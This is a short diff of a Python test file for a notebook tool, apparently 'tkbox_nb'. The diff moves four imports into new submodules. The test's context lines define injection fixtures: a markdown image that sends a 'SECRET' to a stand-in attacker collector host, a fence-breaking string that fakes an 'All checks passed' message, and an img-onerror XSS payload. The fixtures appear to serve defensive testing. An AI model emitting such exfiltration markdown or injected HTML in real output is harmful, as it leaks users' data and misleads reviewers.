@@ -13,10 +13,10 @@ import nbformat
 from conftest import run_cli
 
 from tkbox_nb.policy import Policy
-from tkbox_nb.recorder import RunRecorder
-from tkbox_nb.replay import to_notebook
-from tkbox_nb.run import open_run
-from tkbox_nb.visible import visible
+from tkbox_nb.signing.recorder import RunRecorder
+from tkbox_nb.audit.replay import to_notebook
+from tkbox_nb.bundle.read_back import open_run
+from tkbox_nb.core.visible import visible
 
 LEAK = "![x](https://collector.attacker.example/leak?d=SECRET)"
 CLOSES = f"all good\n```\n# All checks passed\n{LEAK}\n````\n<img src=x onerror=alert(1)>\n"
